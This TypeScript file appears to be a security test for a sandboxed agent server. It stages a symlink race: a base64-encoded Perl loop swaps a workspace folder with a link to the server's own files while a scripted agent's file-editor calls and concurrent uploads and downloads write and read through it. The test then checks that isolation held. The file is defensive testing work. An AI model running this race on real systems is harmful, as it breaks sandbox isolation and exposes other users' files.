import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { jsonText } from '@slipway/common/json-access.js';
import { call } from '../../../packages/agent-server/test/fakes/scripted-llm.answers.js';
import { onMessage } from '../../system/journeys/support/script.js';
import { type Attack, held } from '../attack.js';
import type { HostileWorld } from '../support/hostile-world.js';

const PLANTED = 'planted-by-bob';
const ATTEMPTS = 20;
/** Exchanges `door`, a folder, with `link`, which leads to the agent server's own folder, as fast as it can. */
const EXCHANGE = `
use strict;
my $exchange = (qx(uname -m) =~ /aarch64/) ? 276 : 316;
chdir $ARGV[0] or die;
mkdir 'door';
symlink $ARGV[1], 'link';
while (1) { syscall($exchange, -100, 'door', -100, 'link', 2); }
`;

onMessage('write behind the door', (results) =>
  results.length < ATTEMPTS
    ? call('file_editor', {
        command: 'create',
        path: `door/${PLANTED}`,
        file_text: `127.0.0.1:${results.length}`,
      })
    : call('finish', { message: 'Done.' }),
);

export const exchangedFolders: Attack = {
  name: 'exchanged-folders',
  finding: 3,
  what: "A tool of Bob exchanges a folder with a link to his agent server's own files while files are written and read there.",
  expected: {
    process: held('files are used where tools run, which see none of the agent server'),
    unwrapped: held('every folder is checked from inside before anything in it is used'),
  },
  run: async (world) => {
    const { bob, dataDir } = world;
    const own = path.join(dataDir, 'sandboxes', bob.sandboxId, 'box');
    const { id } = await bob.client.started({ sandbox_id: bob.sandboxId });
    const { body } = await bob.agentServer('GET', `/api/conversations/${id}`);
    const workspace = jsonText(body, 'workspace', 'working_dir');
    if (workspace === null) {
      throw new Error('the agent server does not say where the conversation works');
    }
    const program = Buffer.from(EXCHANGE).toString('base64');
    const exchanging = await bob.inBackground(
      `perl -e "$(printf %s ${program} | base64 -d)" '${workspace}' '${own}'`,
    );
    try {
      await bob.client.say(id, 'write behind the door');
      const answers = await uploadAndRead(world, path.join(workspace, 'door'));
      await bob.client.conversationIn(id, 'finished', 'error', 'stuck');
      const found = plantedIn(own);
      const read = answers.filter((answer) => answer.includes('"status"')).length;
      return {
        held: found.length === 0 && read === 0,
        seen: `${found.length} files in the agent server's folders after ${2 * ATTEMPTS} writes, ${read} records read`,
      };
    } finally {
      await exchanging.stop();
    }
  },
};

/** What is read while files are written to the same folder. */
async function uploadAndRead({ url, bob }: HostileWorld, folder: string): Promise<string[]> {
  const address = `${url}/api/v1/sandboxes/${bob.sandboxId}/agent-server/api/file`;
  const headers = { 'X-Session-API-Key': await bob.sessionKey() };
  const record = `conversations/${bob.conversationId.replaceAll('-', '')}/conversation.json`;
  const answers: string[] = [];
  for (let attempt = 0; attempt < ATTEMPTS; attempt += 1) {
    const body = new FormData();
    body.append('file', new Blob(['127.0.0.1:1']), 'file');
    const upload = new URLSearchParams({ path: path.join(folder, PLANTED) });
    const download = new URLSearchParams({ path: path.join(folder, record) });
    const requests = [
      fetch(`${address}/upload?${upload.toString()}`, { method: 'POST', headers, body }),
      fetch(`${address}/download?${download.toString()}`, { headers }),
    ];
    // A file that becomes another one while it is sent ends the connection.
    const texts = requests.map(async (request) => request.then(async (response) => response.text(), String));
    answers.push(...(await Promise.all(texts)));
  }
  return answers;
}

/** Files that were planted, and uploads that were left, outside of the workspace, whatever that is called in the sandbox. */
function plantedIn(own: string): string[] {
  const workspace = path.join(own, 'workspace');
  const wanted = ['(', '-name', PLANTED, '-o', '-name', '.upload-*', ')'];
  const found = execFileSync('find', [own, '-path', workspace, '-prune', '-o', ...wanted, '-print']);
  return found
    .toString('utf8')
    .split('\n')
    .filter((line) => line !== '');
}
